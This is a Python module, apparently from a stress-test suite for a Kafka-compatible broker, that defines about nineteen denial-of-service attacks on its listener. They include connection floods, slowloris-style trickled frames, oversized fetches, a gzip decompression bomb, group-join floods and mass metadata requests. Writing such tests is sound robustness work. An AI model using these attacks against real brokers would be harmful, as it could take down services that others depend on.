"""Attacks on the Kafka listener."""

import asyncio
import itertools
import os
import random
import struct
import zlib
from collections.abc import Awaitable, Callable

from zhumq.protocol.api import ApiKey
from zhumq.protocol.messages.configs import DescribeConfigsRequest, DescribeConfigsResource
from zhumq.protocol.messages.consumer_groups import ConsumerGroupHeartbeatRequest
from zhumq.protocol.messages.fetch import FetchPartition, FetchRequest, FetchTopic
from zhumq.protocol.messages.groups import (
    DescribeGroupsRequest,
    FindCoordinatorRequest,
    JoinGroupRequest,
    JoinGroupRequestProtocol,
)
from zhumq.protocol.messages.metadata import MetadataRequest, MetadataRequestTopic
from zhumq.protocol.messages.offsets import OffsetFetchRequest, OffsetFetchRequestGroup
from zhumq.protocol.schema import Message
from zhumq.records.batch import CHECKED_OFFSET, CRC_OFFSET
from zhumq.records.codecs import Compression, crc32c

from .crowd import SMALL_BUFFER_BYTES, Action, AttackConnection, crowd, forever, tasks
from .target import (
    COMPACTED,
    LARGE,
    MANY,
    MANY_PARTITIONS,
    Target,
    batch_of,
    half_of,
    produce_request,
    request,
)

MIB = 1 << 20
HUGE = 2**31 - 1
NAMES = 100_000

Attack = Callable[[Target], Awaitable[None]]


async def idle_connections(target: Target) -> None:
    """5,000 connections that send nothing."""
    await crowd(target.kafka, 5_000, forever)


async def half_frames_in_bytes(target: Target) -> None:
    """2,000 connections that send a frame of 100,000 bytes one byte at a time."""

    async def act(connection: AttackConnection) -> None:
        await connection.send(half_of(100_000, 1))
        await connection.trickle(1.0)

    await crowd(target.kafka, 2_000, act)


async def six_large_frames(target: Target) -> None:
    """Six connections with 95 MB of a 100 MB frame each, then a byte a second."""
    most = bytes(MIB)

    async def act(connection: AttackConnection) -> None:
        await connection.send(half_of(100 * 1000 * 1000, 0))
        for _ in range(90):
            await connection.send(most)
        await connection.trickle(1.0)

    await crowd(target.kafka, 6, act)


async def half_megabytes(target: Target) -> None:
    """400 connections with most of a 1 MB frame each, then a byte a second."""
    beginning = half_of(1_000_000, 900_000)

    async def act(connection: AttackConnection) -> None:
        await connection.send(beginning)
        await connection.trickle(1.0)

    await crowd(target.kafka, 400, act)


def _fetch(topic: str, partitions: int = 1, **options: int) -> bytes:
    asked = FetchTopic(
        topic=topic,
        partitions=[
            FetchPartition(partition=index, partition_max_bytes=HUGE) for index in range(partitions)
        ],
    )
    settings: dict[str, int] = {"max_wait_ms": 0, "min_bytes": 0, "max_bytes": HUGE}
    settings |= {"session_epoch": -1} | options
    return request(ApiKey.FETCH, 11, FetchRequest(topics=[asked], **settings))  # type: ignore[arg-type]


def _sends(data: bytes, count: int = 1) -> Action:
    """Sends a request `count` times, and reads nothing."""

    async def act(connection: AttackConnection) -> None:
        for _ in range(count):
            await connection.send(data)
        await asyncio.Event().wait()

    return act


async def slow_readers(target: Target) -> None:
    """300 connections that fetch 50 MB ten times and read nothing."""
    act = _sends(_fetch(LARGE), 10)
    await crowd(target.kafka, 300, act, receive_bytes=SMALL_BUFFER_BYTES)


async def slow_metadata_readers(target: Target) -> None:
    """300 connections that ask for the metadata of all topics 100 times and read nothing."""
    data = request(ApiKey.METADATA, 9, MetadataRequest(topics=None))
    await crowd(target.kafka, 300, _sends(data, 100), receive_bytes=SMALL_BUFFER_BYTES)


async def endless_fetches(target: Target) -> None:
    """500 connections with fetches of at least 2^31-1 bytes, for 2^31-1 ms, of 1,000 partitions."""
    data = _fetch(MANY, MANY_PARTITIONS, max_wait_ms=HUGE, min_bytes=HUGE)
    await crowd(target.kafka, 500, _sends(data))


def _asks_again(requests: Callable[[], bytes]) -> Action:
    async def act(connection: AttackConnection) -> None:
        while True:
            await connection.send(requests())
            await connection.receive_frame()

    return act


async def fetch_sessions(target: Target) -> None:
    """20 connections that open fetch sessions of 1,000 partitions again and again."""
    data = _fetch(MANY, MANY_PARTITIONS, session_epoch=0)
    await crowd(target.kafka, 20, _asks_again(lambda: data))


def _bomb() -> bytes:
    """A batch of 190 kB that unpacks to 192 MB."""
    batch = batch_of(b"x")
    payload = zlib.compress(bytes(192 * MIB), wbits=31)
    head = bytearray(batch[:61])
    head[8:12] = struct.pack(">i", 49 + len(payload))
    head[21:23] = struct.pack(">h", Compression.GZIP)
    whole = bytes(head) + payload
    checksum = struct.pack(">I", crc32c(whole[CHECKED_OFFSET:]))
    return whole[:CRC_OFFSET] + checksum + whole[CHECKED_OFFSET:]


async def bombs(target: Target) -> None:
    """Four connections that produce batches which unpack to 192 MB to a compacted topic."""
    data = request(ApiKey.PRODUCE, 9, produce_request(COMPACTED, _bomb()))
    await crowd(target.kafka, 4, _asks_again(lambda: data))


def _join(group: str, size: int, member: str = "") -> bytes:
    offered = JoinGroupRequestProtocol(name="range", metadata=bytes(size))
    body = JoinGroupRequest(
        group_id=group,
        session_timeout_ms=1_800_000,
        rebalance_timeout_ms=HUGE,
        member_id=member,
        protocol_type="consumer",
        protocols=[offered],
    )
    return request(ApiKey.JOIN_GROUP, 3, body)


async def waiting_joins(target: Target) -> None:
    """1,500 connections with a JoinGroup of 1 MB in ten groups that wait for their first member."""
    numbers = itertools.count()

    async def act(connection: AttackConnection) -> None:
        await connection.send(_join(f"attack-{next(numbers) % 10}", 1_000_000))
        await asyncio.Event().wait()

    await crowd(target.kafka, 1_500, act)


async def small_joins(target: Target) -> None:
    """20 connections that create a group with each JoinGroup."""
    numbers = itertools.count()
    await crowd(target.kafka, 20, _asks_again(lambda: _join(f"attack-{next(numbers)}", 10_000)))


async def subscriptions(target: Target) -> None:
    """20 connections with heartbeats of new members that subscribe to 10,000 topics each."""
    numbers = itertools.count()
    names = [f"a-topic-that-is-not-there-{number}" for number in range(10_000)]

    def heartbeat() -> bytes:
        number = next(numbers)
        body = ConsumerGroupHeartbeatRequest(
            group_id=f"attack-{number % 100}",
            member_id=f"member-{number}",
            rebalance_timeout_ms=60_000,
            subscribed_topic_names=names,
            topic_partitions=[],
        )
        return request(ApiKey.CONSUMER_GROUP_HEARTBEAT, 0, body)

    await crowd(target.kafka, 20, _asks_again(heartbeat))


async def _again(target: Target, key: ApiKey, version: int, body: Message, count: int = 4) -> None:
    data = request(key, version, body)
    await crowd(target.kafka, count, _asks_again(lambda: data))


def _names(count: int = NAMES) -> list[str]:
    return [f"attack-name-{number}" for number in range(count)]


async def metadata_of_many(target: Target) -> None:
    """Four connections that ask for the metadata of 100,000 names again and again."""
    topics = [MetadataRequestTopic(name=name) for name in _names()]
    body = MetadataRequest(topics=topics, allow_auto_topic_creation=False)
    await _again(target, ApiKey.METADATA, 9, body)


async def topics_by_metadata(target: Target) -> None:
    """Two connections that create topics by asking for their metadata."""
    numbers = itertools.count()

    def ask() -> bytes:
        topics = [MetadataRequestTopic(name=f"made-{next(numbers)}") for _ in range(100)]
        body = MetadataRequest(topics=topics, allow_auto_topic_creation=True)
        return request(ApiKey.METADATA, 9, body)

    await crowd(target.kafka, 2, _asks_again(ask))


async def find_many_coordinators(target: Target) -> None:
    """Four connections that look for 100,000 coordinators again and again."""
    body = FindCoordinatorRequest(coordinator_keys=_names())
    await _again(target, ApiKey.FIND_COORDINATOR, 4, body)


async def offsets_of_many(target: Target) -> None:
    """Four connections that ask for the offsets of 100,000 groups again and again."""
    groups = [OffsetFetchRequestGroup(group_id=name, topics=None) for name in _names()]
    await _again(target, ApiKey.OFFSET_FETCH, 8, OffsetFetchRequest(groups=groups))


async def describe_many(target: Target) -> None:
    """Four connections that describe 100,000 groups, and the settings of as many topics."""
    await _again(target, ApiKey.DESCRIBE_GROUPS, 5, DescribeGroupsRequest(groups=_names()), 2)
    resources = [DescribeConfigsResource(resource_type=2, resource_name=name) for name in _names()]
    await _again(target, ApiKey.DESCRIBE_CONFIGS, 4, DescribeConfigsRequest(resources=resources), 2)


async def connect_and_close(target: Target) -> None:
    """50 connections that are opened, used a little and closed, again and again."""
    frames = [b"", half_of(100, 10), b"\x00"]

    async def act(connection: AttackConnection) -> None:
        await connection.send(random.choice(frames))

    async def again() -> None:
        while True:
            await crowd(target.kafka, 50, act, again=False)
            await asyncio.sleep(0.02)

    tasks.append(asyncio.create_task(again()))
    await asyncio.sleep(0.1)


async def garbage(target: Target) -> None:
    """200 connections that send bytes which are not the protocol."""

    async def act(connection: AttackConnection) -> None:
        while True:
            await connection.send(struct.pack(">i", 1_000) + os.urandom(1_000))
            await asyncio.sleep(0.05)

    await crowd(target.kafka, 200, act)


KAFKA_ATTACKS: dict[str, Attack] = {
    each.__name__.replace("_", "-"): each
    for each in (
        idle_connections,
        half_frames_in_bytes,
        six_large_frames,
        half_megabytes,
        slow_readers,
        slow_metadata_readers,
        endless_fetches,
        fetch_sessions,
        bombs,
        waiting_joins,
        small_joins,
        subscriptions,
        metadata_of_many,
        topics_by_metadata,
        find_many_coordinators,
        offsets_of_many,
        describe_many,
        connect_and_close,
        garbage,
    )
}
